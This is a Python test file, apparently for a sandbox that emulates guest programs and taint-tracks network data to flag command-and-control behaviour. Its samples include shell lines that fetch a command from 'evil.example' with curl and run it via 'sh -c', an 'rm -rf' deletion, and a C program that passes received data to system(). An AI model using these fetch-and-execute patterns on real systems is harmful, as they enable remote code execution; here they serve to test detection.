"""What a run's processes share about labels, and what starts a program in an emulator: nothing a guest does switches
either off."""
import shutil
import struct
import unittest

import taint_test
from taint_test import PORT, PROCESSOR


class Guests(taint_test.Compiled):
    def scripted(self, text, *options):
        for tool in ("curl", "qemu-x86_64"):
            if not shutil.which(tool):
                self.skipTest(f"no {tool}")
        self.can_run()
        # What a busy machine takes longer for fails nothing.
        return self.analyze(self.write("sample.sh", "#!/bin/sh\n" + text), "--taint", *options, lasting="400s")[0]

    def all_ran(self, run):
        self.assertEqual(run["outcome"], "exited", run["outcome_detail"])
        self.assertEqual([p for p in run["processes"] if p["how_ended"] != "exited 0"], [], run["remarks"])
        self.assertEqual([remark for remark in run["remarks"] if "outside of the emulators" in remark or "did not run" in remark], [])


class State(Guests):
    def test_a_large_download_leaves_room(self):
        """40 MiB of received bytes in a file: twice that in labels, and programs start all the same."""
        self.write("large.bin", bytes(40 << 20))
        replies = self.write("replies.toml", '[[http]]\nhost = "files.example"\nfile = "large.bin"\n')
        run = self.scripted("curl -s -o large http://files.example/large\ncat large > copy\n/bin/true\n", "--replies", replies)
        self.all_ran(run)
        flow = next(flow for flow in run["flows"] if flow.get("host") == "files.example")
        written = {file["path"].rsplit("/", 1)[-1]: max(o["last"] for o in file["offsets"]) for file in flow["to_files"]}
        self.assertGreaterEqual(written["large"], 40 << 20, flow["to_files"])

    def test_a_guest_that_fills_its_memory_disk(self):
        replies = self.write("replies.toml", '[[http]]\nhost = "evil.example"\nbody = "touch obeyed"\n')
        run = self.scripted("cat /dev/zero > /dev/shm/fill 2>/dev/null\ncmd=$(curl -s http://evil.example/)\nsh -c \"$cmd\"\n",
                            "--replies", replies)
        self.assertEqual(run["outcome"], "exited", run["outcome_detail"])
        self.assertEqual(self.role(run, "evil.example"), "c2")

    def role(self, run, host):
        return next((flow["role"] for flow in run["flows"] if flow.get("host") == host and "role" in flow), None)

    def test_no_name_leads_to_it(self):
        """Flows keep their numbers, so that nobody is called what another is."""
        replies = self.write("replies.toml", '[[http]]\nhost = "evil.example"\nbody = "touch obeyed"\n'
                                             '[[http]]\nhost = "innocent.example"\nbody = "fine"\n')
        run = self.scripted("""ln -s /dev/shm link
            cmd=$(curl -s http://evil.example/)
            rm -rf link/.[!.]* link/* /dev/shm/.[!.]* /dev/shm/*
            curl -s http://innocent.example/ > /dev/null
            sh -c "$cmd"
            """, "--replies", replies)
        self.all_ran(run)
        self.assertEqual(self.role(run, "evil.example"), "c2")
        self.assertIsNone(self.role(run, "innocent.example"), run["flows"])


class Starts(Guests):
    def test_a_program_that_may_be_run_and_not_read(self):
        run = self.scripted("cp /bin/dash shell\nchmod 111 shell\n./shell -c 'cp /bin/true ran && ./ran'\n")
        self.all_ran(run)
        self.assertTrue(any(p["exe"].endswith("/ran") for p in run["processes"]), run["processes"])

    def test_a_program_that_may_not_be_run(self):
        """What the kernel refuses, an emulator does not start."""
        run = self.scripted("cp /bin/true mine\nchmod 655 mine\n./mine\ntest $? = 126\n")
        self.assertEqual((run["outcome"], run["processes"][0]["how_ended"]), ("exited", "exited 0"), run["outcome_detail"])
        self.assertFalse(any(p["exe"].endswith("/mine") for p in run["processes"]), run["processes"])

    def odd(self, name="odd"):
        """Class, byte order, version and size of the header: the kernel looks at none of them."""
        program = self.compile(name, "int main(void) { return 3; }")
        image = bytearray(program.read_bytes())
        image[4:7] = bytes(3)
        struct.pack_into("<H", image, 52, 0)
        program.write_bytes(image)
        self.can_run()
        return program

    def test_a_header_that_only_the_kernel_takes(self):
        program = self.odd()
        for options in ([], ["--taint"]):
            run = self.analyze(program, *options)[0]
            self.assertEqual((run["outcome"], run["processes"][0]["how_ended"]), ("exited", "exited 3"), (options, run["outcome_detail"]))
            self.assertEqual([r for r in run["remarks"] if "outside of the emulators" in r or "did not run" in r], [])
            self.assertEqual(run.get("emulator"), "qemu-x86_64" if options else None)

    def test_an_emulator_that_could_not_start(self):
        """Headers of programs of another size: neither the kernel nor an emulator takes it, and that is said."""
        image = bytearray(self.compile("mute", "int main(void) { return 3; }").read_bytes())
        struct.pack_into("<H", image, 54, 57)
        self.can_run()
        run = self.analyze(self.write("mute", bytes(image)), "--taint")[0]
        self.assertTrue(run["outcome"] == "refused" or any("did not run" in r for r in run["remarks"]), run)

    def test_proof_outlives_a_fault(self):
        """What is proven is not thrown away for a run that tells no more than that it was the emulator's fault."""
        program = self.compile("proven", PROCESSOR + f"""
            #define SERVER 0xcb007107
            #include "client.h"
            int main(void) {{
              char got[64] = "";
              take(dial({PORT}), got, sizeof got);
              system(got);
              if (emulated()) __builtin_trap();
              return 0;
            }}""")
        self.can_run()
        self.without_emulated_processor()
        run = self.analyze(program, "--taint", "--replies", self.replies("touch obeyed"), lasting="400s")[0]
        self.assertEqual(run.get("emulator"), "qemu-x86_64")
        self.assertEqual(self.flow(run).get("role"), "c2", run["flows"])
        self.said(run, "was killed by SIGILL, without an emulator none is")
        self.check_schema("run", run)


if __name__ == "__main__":
    unittest.main()
